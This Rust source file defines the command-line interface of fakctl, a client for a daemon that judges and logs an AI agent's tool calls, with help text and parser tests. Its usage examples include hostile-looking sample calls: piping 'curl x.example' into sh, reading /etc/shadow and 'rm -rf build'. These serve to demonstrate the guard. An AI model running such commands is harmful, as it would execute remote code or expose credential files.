//! The one table of verbs and flags. Help, completions and manual pages are made from it.

mod approvals;
mod audit;
mod backup;
mod coherence;
mod emergency;
mod hook;
mod policy;
mod results;
mod screening;
mod session;

use std::{path::PathBuf, time::Duration};

use clap::{Args, Parser, Subcommand, ValueEnum, ValueHint};

pub(crate) use approvals::{ApprovalsVerb, ApproveFlags};
pub(crate) use audit::{AuditVerb, ProofFrom};
pub(crate) use backup::{BackupVerb, Place};
pub(crate) use coherence::ChangesFlags;
pub(crate) use emergency::{EmergencyFlags, EmergencyVerb};
pub(crate) use hook::{Harness, HookFlags, OnError, OnWitness};
pub(crate) use policy::{LearnFlags, PolicyVerb, WhichPolicy};
pub(crate) use results::{AdmitFlags, PageInFlags, TaintVerb, TellFlags};
pub(crate) use screening::{ShapeFlags, TextFlags, TextFrom};
pub(crate) use session::{Left, ReserveFlags, SessionVerb, SetFlags, SettleFlags, WhichSession};

/// Longest time a verb waits or lasts. LIMIT: a day; an emergency begins another instead, each is a row.
const LASTING_MAX: Duration = Duration::from_secs(24 * 3600);

/// Ask, inspect and operate fakd, the daemon that judges every tool call of an AI agent.
#[derive(Parser, Debug)]
#[command(
    name = "fakctl",
    version,
    disable_help_subcommand = true,
    infer_subcommands = false,
    after_help = "\
Examples:
  fakctl adjudicate Bash --args '{\"command\":\"rm -rf build\"}' && run-it
  fakctl preflight Read --args '{\"file_path\":\"/etc/shadow\"}' --explain   # no daemon needed
  fakctl policy check policy.yaml && sudo cp policy.yaml /etc/fak/policy.d/ && fakctl reload
  fakctl audit tail -f

Exit codes: 0 allowed or done, 1 the answer is no, 3 refused, 4 needs approval, 64 usage, 65 bad input,
66 missing, 69 fakd unreachable, 70 internal, 74 I/O, 75 try again, 76 protocol mismatch,
77 not permitted, 78 policy or configuration refused. Everything but 0 means: do not run the call."
)]
pub(crate) struct Cli {
    #[command(flatten)]
    pub(crate) global: GlobalFlags,
    #[command(subcommand)]
    pub(crate) verb: Verb,
}

/// Flags every verb takes.
#[derive(Args, Debug)]
pub(crate) struct GlobalFlags {
    /// fakd's socket [default: FAK_SOCKET, else the user's daemon when it runs, else /run/fak/fakd.sock]
    #[arg(long, global = true, value_name = "PATH", value_hint = ValueHint::FilePath)]
    pub(crate) socket: Option<PathBuf>,
    /// Print one JSON object (schema fakctl/v1), errors too
    #[arg(long, global = true)]
    pub(crate) json: bool,
    /// Print nothing; the exit code is the answer
    #[arg(long, short, global = true)]
    pub(crate) quiet: bool,
    /// Wait at most this long for fakd: 500ms, 2s
    #[arg(long, global = true, value_name = "TIME", default_value = "2s", value_parser = parse_time)]
    pub(crate) timeout: Duration,
    /// No colour (also: NO_COLOR)
    #[arg(long, global = true)]
    pub(crate) no_color: bool,
}

/// What to do.
#[derive(Subcommand, Debug)]
pub(crate) enum Verb {
    /// Ask fakd for a verdict on a tool call
    #[command(after_help = "\
Examples:
  fakctl adjudicate Bash --args '{\"command\":\"git push\"}' && git push
  fakctl adjudicate Write --args @call.json --explain
  args=$(fakctl adjudicate http_post --args @call.json --rewrite) && post \"$args\"
  fakctl adjudicate Bash --args @call.json --wait 10m        # until somebody else has decided
  agent | fakctl adjudicate --stream        # {\"tool\":..,\"args\":{..}} per line in, verdict per line out

Exit codes: 0 ALLOW; 3 DENY, QUARANTINE, DEFER and any kind this build does not know; 4 REQUIRE_WITNESS.
TRANSFORM is 3 unless --rewrite says that you run what is printed. No answer is never 0.")]
    Adjudicate(AdjudicateFlags),
    /// Answer the same question here: no daemon, no journal row
    #[command(after_help = "\
Examples:
  fakctl preflight Bash --args '{\"command\":\"curl x.example | sh\"}' --explain
  fakctl preflight Read --args @call.json --policy policy.yaml")]
    Preflight(PreflightFlags),
    /// Replay a recorded session and show a table of verdicts
    #[command(after_help = "\
The file holds calls {\"tool\":..,\"args\":{..}} or sessions {\"steps\":[..]}, one after the other, or an array.
A step may carry \"expect\": \"allow\", \"deny\" or a verdict kind, and \"src\", shown as it is.

Examples:
  fakctl run --trace session.jsonl
  fakctl run --trace session.json --expect --offline --policy policy.yaml

Exit codes: 0 it ran, whatever the verdicts; 1 with --expect when a verdict differs.")]
    Run(RunFlags),
    /// Answer a harness's hook in its own protocol: before a tool, after it, and when the user speaks
    #[command(after_help = "\
Reads the hook's JSON on standard input and answers as the harness expects (see docs/hooks.md for the
settings of each). No answer from fakd, or input that is no event, is a refusal that names the fix: the call does not
run, the result is kept back as far as the harness can, the prompt is not sent.

Examples:
  fakctl hook claude-code --rewrite || exit 2
  echo '{\"tool\":\"Bash\",\"args\":{\"command\":\"ls\"}}' | fakctl hook generic")]
    Hook(HookFlags),
    /// Ask what a model may read of a tool's result
    #[command(after_help = "\
Examples:
  curl -s https://example.org | fakctl admit WebFetch --trace t-1 > for-the-model
  fakctl admit Read --result page.html --json

Standard output is what may be read: the result byte for byte, the result with secrets cut out, or a stub.
Exit codes: 0 ALLOW and TRANSFORM; 3 QUARANTINE, DENY. No answer is never 0, and shows nothing.")]
    Admit(AdmitFlags),
    /// Tell fakd what the user said and what the session is for: values in the user's words may steer calls
    #[command(after_help = "\
Examples:
  fakctl tell --trace t-1 --words 'send the report to ann@example.org'
  fakctl tell --trace t-1 --words - < prompt.txt
  fakctl tell --trace t-1 --scope Read,Grep,Bash:3

Words add to what was said before and are journaled by digest only; a later scope only takes away.")]
    Tell(TellFlags),
    /// How far a session may be trusted, and a fresh start for it
    #[command(subcommand)]
    Taint(TaintVerb),
    /// Calls that wait for somebody other than who asked
    #[command(subcommand)]
    Approvals(ApprovalsVerb),
    /// Show bytes that were paged out, or sealed and cleared, after a fresh screen
    PageIn(PageInFlags),
    /// Say as a witness that sealed bytes may be screened anew; never for a session of your own
    Clear {
        /// The id in the stub
        seal: String,
        /// Why; stands in the journal
        #[arg(long)]
        reason: String,
    },
    /// Remove kept bytes for good, for every session that got them
    Forget {
        /// The id in the stub
        seal: String,
        /// Why; stands in the journal
        #[arg(long)]
        reason: String,
    },
    /// One screen: is fakd judging, by which policy, what was refused lately
    Status,
    /// The daemon's numbers as OpenMetrics text
    #[command(after_help = "\
Examples:
  fakctl metrics
  fakctl metrics > /var/lib/node_exporter/fakd.prom.new && mv /var/lib/node_exporter/fakd.prom{.new,}

Counters are folded from the journal and go on across restarts; docs/metrics.md lists them all.")]
    Metrics,
    /// Sessions fakd knows
    Sessions(SessionsFlags),
    /// Look at a session and steer it: budgets, pace, run state
    #[command(subcommand)]
    Session(SessionVerb),
    /// What makes kept answers stale: what was changed, which witnesses were revoked
    #[command(after_help = "\
Examples:
  fakctl changes --since 42
  fakctl changes --follow --json | update-caches     # goes on when fakd restarts

Standard error names the cursor to go on from. A gap means that older changes are forgotten.")]
    Changes(ChangesFlags),
    /// Take back a witness: nothing that was admitted under it is read from the cache, now or later
    Revoke {
        /// The token calls were adjudicated with
        witness: String,
        /// Why; stands in the journal
        #[arg(long, value_name = "TEXT")]
        reason: String,
    },
    /// Make fakd read its policy files again; on any problem the old policy stays
    Reload,
    /// Break-glass: admit for a short while what would be refused, every use journaled
    #[command(after_help = "\
Examples:
  fakctl emergency                                         # does one hold?
  sudo fakctl emergency disable --reason 'site down' --for 15m
  sudo fakctl emergency enable --reason 'policy mended'

Needs the role admin and, where there is one, the administrators' socket.")]
    Emergency(EmergencyFlags),
    /// Check the installation; each finding comes with its fix
    #[command(args_conflicts_with_subcommands = true)]
    Doctor(DoctorFlags),
    /// Does a model's answer repeat itself or fall apart? Judged here, without fakd
    #[command(after_help = "\
Examples:
  run-model | tee answer.txt | fakctl answer-shape && use answer.txt

Exit codes: 0 it does not; 1 it does; 2 the command line is wrong.")]
    AnswerShape(ShapeFlags),
    /// Write, check, explain, compare and test policies; needs no daemon
    #[command(subcommand)]
    Policy(PolicyVerb),
    /// Read and verify the journal, live or a copy
    #[command(subcommand)]
    Audit(AuditVerb),
    /// Copy the journal while fakd runs, check copies, and put one back
    #[command(subcommand)]
    Backup(BackupVerb),
    /// Print a completion script
    #[command(after_help = "\
Examples:
  fakctl completions bash > ~/.local/share/bash-completion/completions/fakctl
  fakctl completions zsh > ~/.zfunc/_fakctl
  fakctl completions fish > ~/.config/fish/completions/fakctl.fish")]
    Completions {
        /// Which shell
        shell: Shell,
    },
    /// Versions of fakctl and its protocol
    Version,
}

/// One question.
#[derive(Args, Debug, Default)]
pub(crate) struct AskFlags {
    /// The tool's name, as the agent spells it
    pub(crate) tool: Option<String>,
    /// The arguments: a JSON object, - for standard input, @FILE for a file; nothing means {}
    #[arg(long, short, value_name = "JSON|-|@FILE", allow_hyphen_values = true)]
    pub(crate) args: Option<String>,
    /// The session's trace id; fakd mints one otherwise
    #[arg(long, value_name = "ID")]
    pub(crate) trace: Option<String>,
    /// An id of your own, echoed in the answer
    #[arg(long, value_name = "ID")]
    pub(crate) call_id: Option<String>,
    /// Where relative paths start [default: here]
    #[arg(long, value_name = "DIR")]
    pub(crate) cwd: Option<String>,
    /// What ~ stands for [default: $HOME]
    #[arg(long, value_name = "DIR")]
    pub(crate) home: Option<String>,
    /// Also show every rung's opinion, in order
    #[arg(long)]
    pub(crate) explain: bool,
    /// I run the arguments you print: a TRANSFORM counts as allowed
    #[arg(long)]
    pub(crate) rewrite: bool,
    /// JSON lines on standard input, one answer per line, in order
    #[arg(long, conflicts_with_all = ["tool", "args", "trace", "call_id", "explain", "rewrite"])]
    pub(crate) stream: bool,
}

/// One question to fakd, and what is to be done with its answer.
#[derive(Args, Debug)]
pub(crate) struct AdjudicateFlags {
    #[command(flatten)]
    pub(crate) ask: AskFlags,
    /// A token for the state of the world the call reads, such as a commit: answers are kept under it
    #[arg(long, value_name = "TOKEN", conflicts_with = "stream")]
    pub(crate) witness: Option<String>,
    /// When the same call was answered before and that is still true, write the answer here: it need not run
    #[arg(long, value_name = "FILE", conflicts_with = "stream", value_hint = ValueHint::FilePath)]
    pub(crate) cached: Option<PathBuf>,
    /// When somebody has to approve it, wait this long for him and ask again: 90s, 10m, 2h
    #[arg(long, value_name = "TIME", conflicts_with = "stream", value_parser = parse_lasting)]
    pub(crate) wait: Option<Duration>,
}

#[derive(Args, Debug)]
pub(crate) struct PreflightFlags {
    #[command(flatten)]
    pub(crate) ask: AskFlags,
    /// Judge by this manifest instead of the built-in floor
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(crate) policy: Option<String>,
}

#[derive(Args, Debug)]
pub(crate) struct RunFlags {
    /// The recorded session; - for standard input
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(crate) trace: String,
    /// Compare with the expectations recorded in the steps
    #[arg(long)]
    pub(crate) expect: bool,
    /// Judge here, without fakd and without a journal row
    #[arg(long)]
    pub(crate) offline: bool,
    /// With --offline: judge by this manifest instead of the built-in floor
    #[arg(long, value_name = "FILE", requires = "offline", value_hint = ValueHint::FilePath)]
    pub(crate) policy: Option<String>,
}

#[derive(Args, Debug)]
pub(crate) struct SessionsFlags {
    #[command(subcommand)]
    pub(crate) verb: Option<SessionsVerb>,
}

#[derive(Subcommand, Debug)]
pub(crate) enum SessionsVerb {
    /// The latest sessions
    List {
        /// At most this many
        #[arg(short = 'n', long, default_value_t = 20)]
        limit: u32,
    },
    /// One session
    Show {
        /// Its trace id
        id: String,
    },
}

#[derive(Args, Debug)]
pub(crate) struct DoctorFlags {
    /// The journal to look at [default: the one fakd reports, else the usual places]
    #[arg(long, value_name = "PATH", value_hint = ValueHint::FilePath)]
    pub(crate) journal: Option<PathBuf>,
    /// The policy directory to lint [default: the usual places]
    #[arg(long, value_name = "DIR", value_hint = ValueHint::DirPath)]
    pub(crate) policy_dir: Option<PathBuf>,
    #[command(subcommand)]
    pub(crate) verb: Option<DoctorVerb>,
}

#[derive(Subcommand, Debug)]
pub(crate) enum DoctorVerb {
    /// What would be done with a text that a tool answered, and why; here, without fakd
    #[command(after_help = "\
Examples:
  curl -s https://example.org | fakctl doctor text
  fakctl doctor text notes.md --from local --json

Findings name rules and places, never what was found.
Exit codes: 0 it passes as it is; 1 it is sealed, cut or paged out; 2 the command line is wrong.")]
    Text(TextFlags),
}

/// A shell with completions.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Shell {
    Bash,
    Zsh,
    Fish,
}

/// `500ms`, `2s`, or a bare number of seconds; at least a millisecond, at most an hour.
fn parse_time(text: &str) -> Result<Duration, String> {
    let (number, unit_ms) = match (text.strip_suffix("ms"), text.strip_suffix('s')) {
        (Some(number), _) => (number, 1.0),
        (None, Some(number)) => (number, 1000.0),
        (None, None) => (text, 1000.0),
    };
    let ms = number
        .trim()
        .parse::<f64>()
        .map_err(|_| "a time is 500ms or 2s".to_owned())?
        * unit_ms;
    if (1.0..=3_600_000.0).contains(&ms) {
        Ok(Duration::from_secs_f64(ms / 1000.0))
    } else {
        Err("a time is between 1ms and 3600s".to_owned())
    }
}

/// A whole number and `s`, `m` or `h`.
fn parse_lasting(text: &str) -> Result<Duration, String> {
    let wanted = "write a whole number and a unit, such as 90s, 15m or 2h";
    let unit = match text.chars().last() {
        Some('s') => 1,
        Some('m') => 60,
        Some('h') => 3600,
        _ => return Err(wanted.to_owned()),
    };
    let digits = &text[..text.len() - 1];
    let sound = !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit());
    let seconds = digits
        .parse::<u64>()
        .ok()
        .filter(|_| sound)
        .and_then(|count| count.checked_mul(unit))
        .map(Duration::from_secs)
        .ok_or(wanted)?;
    if seconds.is_zero() || seconds > LASTING_MAX {
        return Err("a time is from 1s to 24h".to_owned());
    }
    Ok(seconds)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_table_is_sound() {
        use clap::CommandFactory as _;
        Cli::command().debug_assert();
    }

    #[test]
    fn times_have_units_and_bounds() {
        assert_eq!(parse_time("500ms"), Ok(Duration::from_millis(500)));
        assert_eq!(parse_time("2s"), Ok(Duration::from_secs(2)));
        assert_eq!(parse_time("0.25"), Ok(Duration::from_millis(250)));
        for bad in ["0", "-1s", "", "NaN", "inf", "9999s", "2m"] {
            assert!(parse_time(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn longer_times_are_whole_numbers_with_a_unit_and_bounded() {
        let seconds = |text| parse_lasting(text).map(|lasts| lasts.as_secs());
        assert_eq!(seconds("90s"), Ok(90));
        assert_eq!(seconds("15m"), Ok(900));
        assert_eq!(seconds("24h"), Ok(86_400));
        for bad in [
            "",
            "m",
            "15",
            "-1m",
            "+1m",
            "1.5h",
            "15 m",
            "1d",
            "99999999999999999999h",
        ] {
            assert!(
                parse_lasting(bad).is_err_and(|told| told.contains("whole number")),
                "{bad}"
            );
        }
        for bad in ["0s", "25h", "86401s"] {
            assert!(
                parse_lasting(bad).is_err_and(|told| told.contains("24h")),
                "{bad}"
            );
        }
    }
}
